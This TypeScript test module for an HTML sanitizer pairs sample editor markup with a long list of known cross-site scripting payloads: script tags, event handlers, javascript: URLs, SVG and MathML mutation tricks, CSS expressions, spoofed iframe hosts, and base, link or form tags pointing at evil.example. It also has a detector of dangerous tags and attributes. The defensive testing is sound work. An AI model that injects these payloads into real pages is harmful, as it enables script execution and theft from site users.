import { Window } from 'happy-dom'

/** Bodies that editors write, each under the name of what is peculiar to it. */
export const untouched: Record<string, string> = {
  'plain text': 'Abonelik iptali nasıl yapılır? 3 < 5 & 7 > 2',
  'a paragraph': '<p>İstanbul’da ışık</p>',
  'a paragraph with style': '<p style="text-align: center; margin-left:40px">orta</p>',
  headings: '<h1>a</h1><h2 id="b-1">b</h2><h3 class="x y">c</h3><h4>d</h4><h5>e</h5><h6>f</h6>',
  'a div with class and id': '<div class="kutu" id="özet"><p>iç</p></div>',
  'nested lists': '<ul><li>bir<ol start="3" type="a"><li value="4">iki</li></ol></li></ul>',
  'lists without end tags': '<ul><li>bir<li>iki</ul>',
  'paragraphs without end tags': '<p>bir<p>iki',
  'upper case tags': '<P ALIGN=center>eski <B>kod</B></P>',
  'entities of an old editor':
    '<p>&Ccedil;&ouml;z&uuml;m&nbsp;&rsquo; &#304; <img src="/files/a.png" alt="G&ouml;rsel"></p>',
  'single quotes and none': "<p class='a' title=b>c</p>",
  'marks in text':
    '<p><strong>a</strong> <b>b</b> <em>c</em> <i>d</i> <u>e</u> <s>f</s> <mark>g</mark> H<sub>2</sub>O m<sup>2</sup></p>',
  'colours of CKEditor':
    '<span style="background-color:hsl(60,75%,60%);color:rgb(12, 34, 56);font-size:18px;">renk</span>',
  fonts: `<span style="font-family:'Times New Roman', Georgia, serif">a</span>`,
  'a link': '<a href="https://masa.example/a?b=1&c=2#d" title="t">x</a>',
  'a link in a new window': '<a href="https://masa.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  'mail, phone, relative and anchor links':
    '<a href="mailto:a@b.c">m</a><a href="tel:+905321112233">t</a><a href="../b">r</a><a href="#s">s</a>',
  'a named anchor': '<a name="bolum"></a>',
  'an image': '<img src="/files/images/ab/cd.webp" alt="" width="640" height="480" style="float:right" />',
  'an image of another host':
    '<img class="image_resized" style="width:50%;" src="https://cdn.example/a.jpg" srcset="https://cdn.example/a.jpg 500w, /b.jpg 1000w" sizes="100vw" alt="a b">',
  'a figure of CKEditor':
    '<figure class="image image-style-side"><img src="/a.png"><figcaption>Altyazı</figcaption></figure>',
  'a table':
    '<figure class="table"><table border="1" cellpadding="2"><caption>T</caption><colgroup><col style="width:40%"><col span="2"></colgroup>' +
    '<thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2" style="border:1px solid #ccc">b</td><td>c</td></tr></tbody></table></figure>',
  'a table without end tags': '<table><tr><td>a<td>b<tr><td>c</table>',
  'a table of Tiptap':
    '<table style="min-width: 50px"><colgroup><col style="min-width: 25px"></colgroup><tbody><tr><td colspan="1" rowspan="1" colwidth="200"><p>a</p></td></tr></tbody></table>',
  'a YouTube frame':
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0" title="v" frameborder="0" allow="accelerometer; autoplay; picture-in-picture" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>',
  'a frame that fits its box':
    '<div style="position:relative;padding-bottom:56.25%;height:0"><iframe src="https://player.vimeo.com/video/76979871" style="position:absolute;width:100%;height:100%;top:0;left:0"></iframe></div>',
  'media of CKEditor': '<figure class="media"><oembed url="https://youtu.be/dQw4w9WgXcQ"></oembed></figure>',
  'a quotation': '<blockquote cite="https://a.example"><p>söz</p></blockquote>',
  code: '<pre><code class="language-js">if (a &lt; b) { }\n\n  x</code></pre>',
  'rules and breaks': 'a<br>b<br/>c<br />d<hr>',
  details: '<details open><summary>Soru</summary><p>Yanıt</p></details>',
  'old presentation': '<center><font color="#ff0000" face="Arial, sans-serif" size="+1">x</font></center>',
  sections: '<section><article><header>a</header><footer>b</footer></article></section>',
  'blanks and line ends': '  <p>\r\n\ta </p >\n\n<div\n class="x"\n>b</div>\n',
  emoji: '<p>👩‍👩‍👧 ₺ ğüşiöç</p>',
}

/** Known attacks on HTML sanitizers: each tries to run code, to lead elsewhere or to cover the page. */
export const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src=x ONERROR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img src=x\u000conerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<p onclick=alert(1) onmouseover="alert(1)">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="java&Tab;script&colon;alert(1)">a</a>',
  '<a href="java&NewLine;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6a&#x61vascript&#58;alert(1)">a</a>',
  '<a href="&#0000106avascript:alert(1)">a</a>',
  '<a href=javascript&colon;alert(1)>a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="x" href="javascript:alert(1)">a</a>',
  '<a href="javascript:alert(1)" href="x">a</a>',
  '<a href="//evil.example" target="_blank">a</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">a</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</noscript><img src=x onerror=alert(1)>">a</p>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style>@import "//evil.example"; *{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p style="width:exp/**/ression(alert(1))">a</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">a</p>',
  '<p style="color:red;position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">a</p>',
  '<p style="background:\\75rl(//evil.example)">a</p>',
  `<p style="font-family:'a;}*{background:url(//evil.example)'">a</p>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com/embed/x">&lt;/iframe>&lt;img src=x onerror=alert(1)&gt;</iframe>',
  '<iframe src="https://www.youtube.com/embed/x"><iframe></iframe><b>c</b></iframe>',
  '<iframe src="https://www.youtube.com/embed/x">',
  '<base href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example">',
  '<form action="//evil.example"><input name=p><button formaction="javascript:alert(1)">a</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>a</details>',
  '<body onload=alert(1)>a',
  '<html><head><title>t</title></head><body background="javascript:alert(1)">a</body></html>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">a</table>',
  '<template><img src=x onerror=alert(1)></template>',
  '<slot onslotchange=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<% <img src=x onerror=alert(1)> %>',
  '</p></div></body><img src=x onerror=alert(1)>',
  '<a\u00a0href=x\u00a0onclick=alert(1)>a</a>',
  '<a/onclick=alert(1)>a</a>',
  '<a href="x\0" onclick=alert(1)>a</a>',
  '<\0script>alert(1)</script>',
  '<p <script>alert(1)</script>>a</p>',
  '<p title="a"<img src=x onerror=alert(1)>',
  '<p title="unclosed><img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '<portal src="javascript:alert(1)"></portal>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>a</custom-element>',
  '<a data-bs-toggle="tooltip" data-bs-html="true" data-bs-content="&lt;img src=x onerror=alert(1)&gt;">a</a>',
  `${'<div>'.repeat(520)}<table><svg><style><img src=x onerror=alert(1)></style></svg>`,
  '<plaintext><img src=x onerror=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<oembed url="javascript:alert(1)"></oembed>',
  '<blockquote cite="javascript:alert(1)">a</blockquote>',
]

const DANGEROUS_TAGS =
  'script,style,svg,math,object,embed,applet,base,meta,link,form,input,button,textarea,select,template,noscript,noembed,noframes,' +
  'title,xmp,plaintext,frame,frameset,marquee,portal,video,audio,source,slot,isindex,custom-element'

/** What a browser would find dangerous in a cleaned text. */
export function dangersIn(html: string): string[] {
  const { document } = new Window({ settings: { disableIframePageLoading: true } })
  document.body.innerHTML = html
  const found = [...document.querySelectorAll(DANGEROUS_TAGS)]
    .filter((one) => one !== document.head)
    .map((one) => one.tagName)
  for (const element of document.body.querySelectorAll('*')) {
    for (const { name, value: given } of element.attributes) {
      const value = given ?? ''
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them in a scheme
      const bare = value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      if (/^on|^srcdoc$|^(form)?action$|^background$|:|^data-bs/.test(name)) found.push(name)
      if (/^(javascript|data|vbscript):/.test(bare)) found.push(`${name}=${value}`)
      if (name === 'style' && /url|expression|fixed|behavior|binding|[\\{}]|\/\*/i.test(value)) found.push(value)
    }
    if (element.tagName === 'IFRAME') {
      const { protocol, host } = new URL(element.getAttribute('src') ?? 'about:blank')
      if (protocol !== 'https:' || !['www.youtube.com', 'player.vimeo.com'].includes(host))
        found.push(`frame of ${host}`)
    }
    const noopener = /\bnoopener\b/.test(element.getAttribute('rel') ?? '')
    if (element.getAttribute('target') === '_blank' && !noopener) found.push('a window that knows its opener')
  }
  return found
}
